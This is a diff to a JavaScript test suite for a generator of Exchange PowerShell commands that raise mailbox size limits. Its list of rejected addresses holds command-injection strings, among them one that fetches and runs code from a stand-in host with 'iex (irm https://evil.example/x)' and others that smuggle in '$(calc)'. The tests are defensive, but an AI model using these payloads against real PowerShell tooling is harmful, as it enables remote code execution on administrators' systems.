@@ -86,11 +86,17 @@ describe("A mailbox's limit", () => {
       adminCommands("o'neil@x.example"),
       /^Set-Mailbox -Identity 'o''neil@x\.example' -MaxSendSize 150MB/m,
     );
-    assert.match(
-      adminCommands("a@x.example"),
-      /^Set-TransportConfig -MaxSendSize 150MB -MaxReceiveSize 150MB$/m,
-    );
   });
+
+  // What Exchange Online knows: `Set-TransportConfig` has these limits on an own Exchange server only.
+  const FOR_ALL =
+    "Get-Mailbox -ResultSize Unlimited | Set-Mailbox -MaxSendSize 150MB -MaxReceiveSize 150MB\n# For new ones:\nGet-MailboxPlan | Set-MailboxPlan -MaxSendSize 150MB -MaxReceiveSize 150MB\n# A change can take an hour to apply.\n";
+
+  it("is raised for one mailbox, for all there are, and for those to come", () =>
+    assert.equal(
+      adminCommands("a@x.example"),
+      `# For this mailbox:\nSet-Mailbox -Identity 'a@x.example' -MaxSendSize 150MB -MaxReceiveSize 150MB\n# Or for all mailboxes:\n${FOR_ALL}`,
+    ));
 
   for (const address of [
     "kim\u2019; iex (irm https://evil.example/x); #@corp.example",
@@ -102,13 +108,14 @@ describe("A mailbox's limit", () => {
     '"kim"@corp.example',
     "kïm@corp.example",
     "6f3d1b52-8c1e-4f0a-9a53-2b7d54c0e611",
+    "kim`$(calc)@corp.example",
+    "kim@corp.example\u2028calc",
+    "\u201bkim@corp.example",
+    "kim@corp.example #",
     "",
   ])
     it(`names no mailbox that is called ${JSON.stringify(address)}`, () =>
-      assert.equal(
-        adminCommands(address),
-        "# For the whole organization:\nSet-TransportConfig -MaxSendSize 150MB -MaxReceiveSize 150MB\n",
-      ));
+      assert.equal(adminCommands(address), `# For all mailboxes:\n${FOR_ALL}`));
 
   it("takes every character that PowerShell reads as a single quote for text", () =>
     assert.equal(
